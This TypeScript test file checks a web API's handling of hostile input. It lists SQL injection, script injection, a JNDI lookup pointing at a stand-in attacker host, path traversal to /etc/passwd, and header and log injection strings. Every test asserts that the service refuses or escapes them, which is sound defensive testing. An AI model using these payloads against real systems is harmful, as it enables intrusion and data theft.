import { randomUUID } from 'node:crypto';
import { expect } from 'vitest';
import { foundOrganization } from '../people.ts';
import { rawRequest } from '../raw-request.ts';
import type { Check, Target } from './target.ts';

const attacks = [
  "'; drop table users; --",
  "' or '1'='1",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%n',
  '../../../../etc/passwd',
  '\u202Egnp.exe',
];

const controls = ['one\r\nSet-Cookie: session=evil', '\u001b[2J', 'a\nb', 'a\u0000b', '   ', ''];

export const textChecks: Readonly<Record<string, Check>> = {
  'attacks in texts are kept as they came, and never taken for more': async ({ person }) => {
    for (const name of attacks) {
      const organization = await foundOrganization(person, name);
      const { json, headers, text } = await person.caller.get(`/organizations/${organization.id}`);
      expect(json).toMatchObject({ name });
      expect(headers.get('content-type')).toMatch(/^application\/json/);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('set-cookie')).toBeNull();
      expect(text).not.toContain('\r\n');
    }
  },

  'quotes end no statement': async ({ anyone }) => {
    const email = "o'hara@example.com";
    expect((await anyone.post('/accounts', { email, name: "O'Hara" })).status).toBe(202);
    expect((await anyone.post('/accounts/password-requests', { email })).status).toBe(202);
    expect((await anyone.post('/sessions', { email, password: "' or '1'='1" })).status).toBe(401);
  },

  'attacks in an address are not echoed as a page': async ({ anyone }) => {
    for (const attack of attacks) {
      const { status, headers } = await anyone.get(`/${encodeURIComponent(attack)}`);
      expect(status, attack).toBe(404);
      expect(headers.get('content-type')).toMatch(/^application\/problem\+json/);
    }
  },

  'addresses that cannot be read are refused as problems': async ({ anyone, api }) => {
    expect((await anyone.get('/organizations/%ZZ')).status).toBe(400);
    const answer = await rawRequest(
      api.address,
      'GET /%c0%ae%c0%ae/ HTTP/1.1',
      'host: x',
      'connection: close',
      '',
      '',
    );
    expect(answer).toMatch(/^HTTP\/1\.1 40[04]/);
    expect(answer).toContain('application/problem+json');
  },

  'control characters are refused': async ({ person }) => {
    for (const name of controls) {
      const slug = `s-${randomUUID()}`;
      expect((await person.caller.post('/organizations', { name, slug })).status, name).toBe(400);
    }
  },

  'no header can be added to a mail': async ({ anyone }) => {
    for (const email of [
      'a@example.com\r\nBcc: all@example.com',
      'a@example.com\nSubject: x',
      'a b@example.com',
    ]) {
      expect((await anyone.post('/accounts', { email, name: 'X' })).status, email).toBe(400);
    }
  },

  'no line can be added to the log': async ({ api, anyone }) => {
    const forged = '{"level":30,"msg":"forged"}';
    await anyone.get(`/x${encodeURIComponent(`\n${forged}`)}`, { 'user-agent': forged });
    await anyone.post('/sessions', { email: `a\n${forged}`, password: 'x' });
    for (const line of api.log().trim().split('\n')) {
      expect(recordIn(line), `expected ${line} not to be a part of a line`).toBeDefined();
      expect(recordIn(line)).not.toMatchObject({ msg: 'forged' });
    }
  },

  'a path leads out of no folder': async ({ api }: Pick<Target, 'api'>) => {
    for (const path of [
      '/docs/../../package.json',
      '/docs/static/../../../package.json',
      '/docs/static/..%2f..%2f..%2fpackage.json',
      '/docs/static/%2e%2e/%2e%2e/%2e%2e/package.json',
      '/docs/static/..%5c..%5cpackage.json',
      '/docs/static//etc/passwd',
      '/docs/static/index.html%00.json',
    ]) {
      const answer = await rawRequest(
        api.address,
        `GET ${path} HTTP/1.1`,
        'host: x',
        'connection: close',
        '',
        '',
      );
      expect(answer, path).toMatch(/^HTTP\/1\.1 (30\d|40[034])/);
      expect(answer, path).not.toMatch(/dependencies|root:/);
    }
  },

  'a host header does not become a part of a page': async ({ api }) => {
    const host = '"><script>alert(1)</script>';
    const answer = await rawRequest(
      api.address,
      'GET / HTTP/1.1',
      `host: ${host}`,
      'connection: close',
      '',
      '',
    );
    expect(answer).toContain('alert(1)');
    expect(answer).not.toContain('<script');
  },
};

/** Undefined where the line is not a whole record. */
function recordIn(line: string): object | undefined {
  try {
    return JSON.parse(line) as object;
  } catch {
    return undefined;
  }
}
